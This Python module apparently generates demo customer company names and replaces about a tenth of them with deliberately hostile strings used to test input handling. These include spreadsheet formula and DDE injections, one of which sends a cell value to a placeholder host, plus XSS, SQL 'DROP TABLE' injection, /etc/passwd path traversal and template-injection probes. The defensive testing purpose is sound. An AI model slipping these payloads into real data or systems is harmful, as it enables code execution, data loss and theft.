"""What the demo company's customers are called: plainly, or so that a careless reader of names would trip."""

from __future__ import annotations

import numpy as np

from prevenance.demo.world import random_stream

FIRST = (
    "Amber",
    "Birch",
    "Cedar",
    "Delta",
    "Ember",
    "Fjord",
    "Granit",
    "Harbour",
    "Iris",
    "Juniper",
    "Kestrel",
    "Linden",
    "Maple",
    "Nordic",
    "Océan",
    "Pine",
    "Quartz",
    "River",
    "Saphir",
    "Tilia",
    "Ulmen",
    "Vega",
    "Willow",
    "Yarrow",
    "Zénith",
    "Étoile",
    "Grün",
    "Alder",
    "Brook",
    "Coral",
)
SECOND = (
    "Analytics",
    "Bau",
    "Café",
    "Data",
    "Energie",
    "Foods",
    "Garten",
    "Holz",
    "Imports",
    "Journal",
    "Kredit",
    "Labs",
    "Mobilité",
    "Netz",
    "Optik",
    "Papier",
    "Quality",
    "Robotics",
    "Service",
    "Textil",
    "Union",
    "Verlag",
    "Works",
    "Yards",
    "Studio",
)
FORMS = ("SA", "GmbH", "Ltd", "& Cie", "AG", "BV", "SARL", "& Söhne")

HOSTILE = (
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "<script>alert('name')</script>",
    '"><img src=x onerror=alert(1)>',
    "Robert'); DROP TABLE customers;--",
    "NULL",
    "nan",
    "Line one\nLine two",
    "Tab\there; semicolon, comma",
    "Quotes \"and\" 'apostrophes'",
    "../../etc/passwd",
    "{{ 7 * 7 }} ${7*7}",
    "\u202egnp.eman",
    "Zero\u200bwidth",
    "Zo\u0308e & Fre\u0301re",
    "\U0001f525\U0001f525 GmbH",
    "شركة المثال",
    "株式会社サンプル",
    " leading and trailing ",
    "A" * 300,
)
HOSTILE_SHARE = 0.1


def plain_names(rng: np.random.Generator, total: int) -> np.ndarray:
    """Return ordinary names; nobody in a block shares one where there are enough."""
    forms, seconds = len(FORMS), len(SECOND)
    chosen = rng.choice(len(FIRST) * seconds * forms, total, replace=total > len(FIRST) * seconds * forms)
    return np.array([f"{FIRST[n // forms // seconds]} {SECOND[n // forms % seconds]} {FORMS[n % forms]}" for n in chosen], dtype=object)


def hostile_names(names: np.ndarray, seed: int, block: int) -> np.ndarray:
    """Return the names with a tenth of them replaced (all of ``HOSTILE`` where there are as many customers)."""
    rng, wanted = random_stream(seed, "hostile names", block), max(len(HOSTILE), round(HOSTILE_SHARE * len(names)))
    places = rng.permutation(len(names))[:wanted]
    changed = names.copy()
    changed[places] = np.resize(np.array(HOSTILE, dtype=object), len(places))
    return changed
